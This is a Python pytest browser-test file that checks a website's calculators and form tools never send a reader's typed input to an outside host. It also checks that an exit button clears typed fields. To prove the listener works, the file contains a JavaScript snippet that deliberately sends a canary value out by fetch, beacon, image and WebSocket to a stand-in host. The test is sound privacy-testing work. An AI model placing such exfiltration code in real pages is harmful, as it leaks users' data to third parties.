"""What a reader types stays in the page: canaries in every field of every tool, every button pressed, nothing found outside.

With the policy and without it: the scripts themselves must not leak. Every tool is tried in Chinese; in English with
LEAKS=all (`make leaks`). The case file has tests of its own, tests/web/test_case_private.py; the one page that may send,
after its own press on what it has shown, is the page for readers' words of an edition that takes them: test_feedback.py.
"""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from tests.conftest import all_pages_of
from tests.web.leaks import DAY, LANGUAGES, NUMBER, OUTSIDE, PRESS, SENSIBLE, TYPE, WALK, Watched, outside

pytestmark = pytest.mark.browser


@pytest.fixture(scope="module")
def listener() -> Iterator[tuple[str, list[str]]]:
    with outside() as found:
        yield found


def tools(site: Path, language: str) -> dict[str, list[str]]:
    """The pages on which a reader types or chooses, by kind."""
    english = [page for page in all_pages_of(site) if page.startswith("en/") == (language == "en")]
    found = {kind: [page for page in english if f"{kind}/" in page] for kind in ("calculators", "letters", "flows", "embed")}
    assert [len(pages) for pages in found.values()] == [17, 18, 7, 17]
    if LANGUAGES == ["zh"]:
        found["embed"] = found["embed"][::8]  # the same scripts as on the calculator's own page
    found["embeds"] = [page for page in english if page.endswith("embeds.html")]
    return found


@pytest.mark.parametrize("language", LANGUAGES)
@pytest.mark.parametrize("with_policy", [True, False])
def test_nothing_typed_gets_out(
    chromium: Any, address: str, site: Path, listener: tuple[str, list[str]], with_policy: bool, language: str
) -> None:
    proxy, heard = listener
    watched = Watched(chromium, address, proxy, heard, with_policy)
    tab = watched.tab
    for kind, pages in tools(site, language).items():
        for page in pages:
            watched.open(page)
            if kind == "flows":
                for way in ("first", "last"):
                    tab.evaluate(WALK, [way])
                    tab.evaluate(TYPE, [NUMBER, DAY])
                    tab.evaluate(PRESS)
            else:
                assert tab.evaluate(TYPE, [NUMBER, DAY]), f"{page}: nothing to type into"
                assert tab.evaluate(PRESS), f"{page}: nothing to press"
                typed = tab.evaluate(SENSIBLE, [NUMBER, DAY])
                if typed is not None:
                    tab.evaluate(PRESS)
            watched.look()
    assert watched.hits() == []
    watched.context.close()


LEAKS = """([outside, canary, day]) => {
  fetch(outside + '?fetch' + canary, {mode: 'no-cors'});
  navigator.sendBeacon(outside + 'beacon', canary);
  new Image().src = outside + day + '.png';
  new WebSocket('ws://outside.example/' + canary);
  document.querySelector('h1').append(Object.assign(new Image(), {src: 'own' + canary}));
  localStorage.x = canary;
  document.cookie = 'cookie=' + canary;
  document.title = 'title' + canary;
  history.replaceState({x: canary}, '');
  console.log('said' + canary);
  return caches.open('cache' + canary).then(() => true);
}"""


def test_the_listener_hears_what_a_leak_would_do(chromium: Any, address: str) -> None:
    """The test above would find a request, a beacon, a picture, a socket, and whatever is kept."""
    with outside() as (proxy, heard):
        watched = Watched(chromium, address, proxy, heard, with_policy=False)
        watched.open("guides/refused.html")
        watched.look()
        assert watched.hits() == []
        watched.tab.evaluate(LEAKS, [OUTSIDE, NUMBER, DAY])
        watched.tab.wait_for_timeout(150)
        watched.look()
        found = "\n".join(watched.hits())
        context = watched.context
        for sign in ("?fetch", f"{OUTSIDE}beacon", f"{DAY}.png", "socket ws:", "/guides/own"):
            assert sign in found, sign
        for sign in ('["x"', "cookie=", "title", '{"x"', "console said", "cache"):
            assert sign + NUMBER in found or f'{sign},"{NUMBER}' in found or f'{sign}:"{NUMBER}' in found, sign
        assert [line for line in heard if line.startswith("POST") and line.endswith(NUMBER)], "the outside itself heard"
        context.close()


def test_leaving_wipes_what_was_typed(chromium: Any, address: str) -> None:
    context = chromium.new_context()
    tab = context.new_page()
    tab.goto(address + "guides/refused.html")
    tab.goto(address + "calculators/true_apr.html")
    tab.evaluate(TYPE, [NUMBER, DAY])
    tab.locator("#exit").click()
    tab.wait_for_url("**/blank.html")
    tab.go_back()
    assert NUMBER not in tab.content()
    values = tab.evaluate("[...document.querySelectorAll('input')].map(field => field.value).join(' ')")
    assert NUMBER not in values
    context.close()
